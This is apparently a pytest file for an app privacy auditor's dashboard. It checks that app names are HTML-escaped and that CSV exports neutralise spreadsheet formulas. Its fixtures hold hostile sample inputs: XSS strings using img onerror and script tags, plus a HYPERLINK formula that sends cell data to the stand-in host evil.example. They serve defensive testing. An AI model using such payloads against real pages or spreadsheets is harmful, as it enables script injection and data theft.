"""The dashboard treats app-controlled text as data: escaped in the page, inert in spreadsheets."""

from __future__ import annotations

import csv
import io
import re

import pytest

from auditor.batch.dashboard import render_dashboard, to_csv, to_json
from auditor.batch.table import AppRow, CampaignTable, Cell, SdkRow
from auditor.ruleset import Ruleset

HOSTILE_NAME = '<img src=x onerror="alert(1)">皖事通'
HOSTILE_PACKAGE = "cn.gov.x</td><script>alert(2)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return Ruleset()


@pytest.fixture
def table(ruleset: Ruleset) -> CampaignTable:
    bad = AppRow(key="gov-01", name=HOSTILE_NAME, status="done", audit_id="a1", package=HOSTILE_PACKAGE, rank=1,
                 findings={"high": 2, "medium": 1, "low": 0}, observations=5, before_consent=2, consent_known=4,
                 sdks={"umeng"}, cells={"device_id": Cell(observations=5, worst="high", rules={"before_consent"})})
    formula = AppRow(key="+cmd", name=FORMULA_NAME, status="done", audit_id="a2", rank=2,
                     cells={"precise_location": Cell(observations=1)})
    failed = AppRow(key="broken", name="损坏", status="failed", error="x.apk: <b>not an APK</b>")
    umeng = SdkRow(id="umeng", name="友盟", apps={"gov-01"}, categories={"device_id": {"gov-01"}},
                   before_consent_apps={"gov-01"})
    return CampaignTable(campaign="<i>专项</i>", rules_version=ruleset.version, apps=[bad, formula], failed=[failed],
                         sdks=[umeng], categories=["precise_location", "device_id"])


def test_page_escapes_every_app_controlled_string(table: CampaignTable, ruleset: Ruleset) -> None:
    html = render_dashboard(table, ruleset, {"gov-01": "apps/gov-01-abc.html"})
    assert "<img" not in html and "<script" not in html and "<b>not" not in html and "<i>专项" not in html
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;皖事通" in html
    assert "&lt;/td&gt;&lt;script&gt;" in html
    assert "x.apk: &lt;b&gt;not an APK&lt;/b&gt;" in html
    assert 'href="apps/gov-01-abc.html"' in html
    # before-consent rate 2/4, and the heat-map cell carries its worst severity and count
    assert re.search(r"<td class=\"num\">50%</td>", html)
    assert re.search(r'<td class="h-high" title="设备标识[^"]*: 5 · before_consent">5</td>', html)
    assert re.search(r'<td class="h-seen" title="精确位置[^"]*: 1">1</td>', html)


def test_english_category_names(table: CampaignTable, ruleset: Ruleset) -> None:
    html = render_dashboard(table, ruleset, {}, lang="en")
    assert ">Device identifiers</th>" in html and 'lang="en"' in html


def test_csv_neutralises_formulas_and_keeps_chinese(table: CampaignTable) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(table, {}))))
    assert [r["id"] for r in rows] == ["gov-01", "'+cmd", "broken"]
    assert rows[1]["name"] == "'" + FORMULA_NAME
    assert rows[0]["name"] == HOSTILE_NAME and rows[0]["sdks"] == "umeng"
    assert rows[0]["before_consent_rate"] == "0.5" and rows[1]["before_consent_rate"] == ""
    assert rows[0]["category:device_id"] == "5" and rows[1]["category:device_id"] == "0"
    assert rows[2]["status"] == "failed" and rows[2]["error"] == "x.apk: <b>not an APK</b>"


def test_json_keeps_raw_text_for_machines(table: CampaignTable) -> None:
    doc = to_json(table, {}, "2026-11-25T00:00:00+00:00")
    assert doc["apps"][1]["id"] == "+cmd" and doc["apps"][1]["name"] == FORMULA_NAME
    assert doc["apps"][0]["categories"]["device_id"] == {"observations": 5, "worst": "high",
                                                         "rules": ["before_consent"]}
    assert doc["sdks"][0]["before_consent_apps"] == ["gov-01"]
